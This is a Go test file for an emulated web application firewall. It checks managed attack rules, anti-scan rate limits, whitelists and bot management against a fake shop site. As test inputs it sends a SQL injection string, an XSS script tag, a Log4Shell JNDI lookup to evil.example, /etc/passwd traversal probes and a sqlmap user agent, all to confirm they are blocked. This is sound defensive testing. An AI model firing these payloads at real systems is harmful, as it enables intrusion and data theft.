package local

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

// managedSet is what a rule says of one kind of attack.
func managedSet(kind, level int, action string, own ...any) map[string]any {
	return map[string]any{"AttackType": kind, "ProtectionLevel": level, "Action": action, "ManagedRules": own}
}

// sqli is a path with an injection.
var sqli = "/products?id=" + url.QueryEscape("1' or '1'='1")

func TestEdgeManagedRules(t *testing.T) {
	b := newShop(t, Options{})
	b.record("www.shop.example", b.origin(echo))
	at := func(path string) string { return "http://www.shop.example" + path }
	require.Equal(t, 200, b.get(at(sqli)).status, "nothing is on")
	rule := b.security("http_managed", map[string]any{"ManagedRulesets": []any{
		managedSet(11, 2, "deny"), managedSet(12, 2, "monitor"), managedSet(13, 1, "js"), managedSet(15, 4, "deny", map[string]any{"Id": 150004, "Status": "off"})}})
	got := b.get(at(sqli))
	require.Equal(t, 403, got.status)
	require.Contains(t, got.body, "SQL injection")
	require.Equal(t, fmt.Sprint("waf managed 110002, waf deny ", rule), got.rules())
	got = b.get(at("/?q=" + url.QueryEscape("<script>alert(1)</script>")))
	require.Equal(t, 200, got.status, "watched, and let through")
	require.Equal(t, fmt.Sprint("waf managed 120001, waf managed 120002, waf monitor ", rule), got.rules())
	got = b.get(at("/"), "X-Api-Version", "${jndi:ldap://evil.example/a}")
	require.Equal(t, 403, got.status)
	require.Contains(t, got.body, "<script>", "the browser is checked")
	require.Equal(t, 403, b.get(at("/x?f=/etc/passwd")).status)
	require.Equal(t, 200, b.get(at("/x?f=../a")).status, "this rule is off")
	require.Equal(t, 200, b.get(at("/search?q=O%27Neill")).status)

	const form = "application/x-www-form-urlencoded"
	require.Equal(t, 403, b.do("POST", at("/"), "a=b&id="+url.QueryEscape("1' or '1'='1"), "Content-Type", form).status)
	require.Equal(t, 403, b.do("POST", at("/"), `{"id":"1' or '1'='1"}`, "Content-Type", "application/json").status)
	long := strings.Repeat("x", 100<<10)
	for kind, body := range map[string]string{form: "a=" + long, "application/json": `"` + long + `"`} {
		require.Equal(t, body, b.do("POST", at("/"), body, "Content-Type", kind).seen(t).Body, "the origin gets the whole body")
	}
	states := b.call("ListWafManagedRules", map[string]any{"AttackType": 15, "Id": rule})["Rules"].([]any)
	require.Equal(t, "off", states[3].(map[string]any)["Status"])

	white := b.security("http_whitelist", map[string]any{"Expression": `(http.user_agent eq "friend")`,
		"Actions": map[string]any{"Bypass": map[string]any{"Skip": "part", "RegularTypes": []string{"sqli"}, "RegularRules": []int{150001}}}})
	got = b.get(at(sqli), "User-Agent", "friend")
	require.Equal(t, 200, got.status)
	require.Equal(t, fmt.Sprint("waf whitelist ", white), got.rules())
	require.Equal(t, 200, b.get(at("/x?f=/etc/passwd"), "User-Agent", "friend").status)
	b.call("UpdateWafRule", map[string]any{"Id": rule, "Status": "off"})
	require.Equal(t, 200, b.get(at(sqli)).status)
}

// scanLimit is a limit by what visitors got.
func scanLimit(threshold map[string]any) map[string]any {
	return map[string]any{"Interval": 60, "TTL": 120, "Threshold": threshold,
		"Characteristics": map[string]any{"Criteria": []any{map[string]any{"MatchType": "ip.src"}}}}
}

func TestEdgeStopsScans(t *testing.T) {
	now := newClock()
	b := newShop(t, Options{Now: now.time})
	b.record("www.shop.example", b.origin(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasPrefix(r.URL.Path, "/missing") {
			w.WriteHeader(404)
		}
	}))
	from := func(ip, path string, header ...string) int {
		return b.get("http://www.shop.example"+path, append(header, "X-Esa-Client-Ip", ip)...).status
	}
	b.security("http_managed", map[string]any{"ManagedRulesets": []any{managedSet(11, 2, "deny"), managedSet(15, 2, "deny")}})
	attacks := b.security("http_anti_scan", map[string]any{"Action": "deny", "Name": "attacks", "Type": "http_high_frequency",
		"RateLimit": scanLimit(map[string]any{"ManagedRulesBlocked": 2, "DistinctManagedRules": 1})})
	walk := b.security("http_anti_scan", map[string]any{"Action": "deny", "Name": "walk", "Type": "http_directory_traversal"})
	b.security("http_anti_scan", map[string]any{"Action": "deny", "Name": "tools", "Type": "http_scanner"})
	b.security("http_ratelimit", map[string]any{"Action": "deny", "Name": "few", "Expression": path("/missing/few"),
		"RateLimit": scanLimit(map[string]any{"Request": 2, "ResponseStatus": map[string]any{"Code": 404, "Count": 1, "Ratio": 50}})})

	for range 5 {
		require.Equal(t, 403, from("192.0.2.1", sqli))
	}
	require.Equal(t, 200, from("192.0.2.1", "/"), "one rule alone is not enough")
	require.Equal(t, 403, from("192.0.2.1", "/?f=/etc/passwd"))
	got := b.get("http://www.shop.example/", "X-Esa-Client-Ip", "192.0.2.1")
	require.Equal(t, 403, got.status)
	require.Equal(t, fmt.Sprint("waf deny ", attacks), got.rules())
	require.Equal(t, 200, from("192.0.2.2", "/"))
	now.advance(2 * time.Minute)
	require.Equal(t, 200, from("192.0.2.1", "/"))

	for i := range 51 {
		require.Equal(t, 404, from("192.0.2.3", fmt.Sprint("/missing/", i)), i)
	}
	got = b.get("http://www.shop.example/", "X-Esa-Client-Ip", "192.0.2.3")
	require.Equal(t, fmt.Sprint("waf deny ", walk), got.rules())
	require.Equal(t, 403, got.status)
	for range 60 {
		require.Equal(t, 200, from("192.0.2.4", "/"), "many requests that find something are no scan")
	}
	require.Equal(t, 403, from("192.0.2.5", "/", "User-Agent", "sqlmap/1.8"))
	for i, want := range []int{404, 404, 404, 403} {
		require.Equal(t, want, from("192.0.2.6", "/missing/few"), i)
	}
}

func TestEdgeBots(t *testing.T) {
	b := newShop(t, Options{})
	b.record("www.shop.example", b.origin(func(w http.ResponseWriter, r *http.Request) { w.Write([]byte("ok")) }))
	visit := func(path string, header ...string) int {
		return b.get("http://www.shop.example"+path, header...).status
	}
	browser := []string{"User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/130.0 Safari/537.36", "Accept", "text/html", "Accept-Language", "de"}
	crawler := []string{"User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"}
	set := func(settings map[string]any) { b.call("EditSiteWafSettings", map[string]any{"Settings": settings}) }

	set(map[string]any{"BotManagement": map[string]any{"DefiniteBots": map[string]any{"Action": "deny", "Id": 7},
		"LikelyBots": map[string]any{"Action": "js"}, "VerifiedBots": map[string]any{"Action": "bypass"}}})
	require.Equal(t, 200, visit("/", browser...))
	got := b.get("http://www.shop.example/", "User-Agent", "curl/8.5.0")
	require.Equal(t, 403, got.status)
	require.Equal(t, "waf deny 7", got.rules())
	require.Equal(t, 403, visit("/", "User-Agent", "python-requests/2.32"))
	require.Equal(t, 200, visit("/", crawler...))
	require.Equal(t, 403, visit("/", browser[:4]...), "a browser that knows no language is checked")
	require.Equal(t, 200, visit("/a.css", "User-Agent", "curl/8.5.0"), "static files are for all")

	set(map[string]any{"BotManagement": map[string]any{}})
	b.security("http_bot", map[string]any{"Name": "no crawlers", "Type": "web", "Action": "deny", "ManagedList": "intelligence_crawler", "Expression": path("/private")})
	b.security("http_bot", map[string]any{"Name": "of the service", "Type": "web", "Action": "deny", "ManagedList": "intelligence_other"})
	require.Equal(t, 403, visit("/private", crawler...))
	require.Equal(t, 200, visit("/", crawler...))
	require.Equal(t, 200, visit("/private", browser...))
	require.Equal(t, 200, visit("/private", "User-Agent", "curl/8.5.0"))

	level := b.security("http_security_level_rule", map[string]any{"Name": "attack", "Expression": path("/login"), "SecurityLevel": map[string]any{"Value": "under_attack"}})
	b.security("http_security_level_rule", map[string]any{"Name": "reputation", "Expression": "true", "SecurityLevel": map[string]any{"Value": "high"}})
	got = b.get("http://www.shop.example/login", browser...)
	require.Equal(t, 403, got.status)
	require.Equal(t, fmt.Sprint("waf js ", level), got.rules())
	require.Equal(t, 200, visit("/", browser...))
	set(map[string]any{"SecurityLevel": map[string]any{"Value": "under_attack"}})
	require.Equal(t, 403, visit("/", browser...))
	set(map[string]any{"DisableSecurityModule": map[string]any{"Status": "on"}})
	require.Equal(t, 200, visit("/", browser...))
	require.Equal(t, 200, visit("/private", crawler...))
}
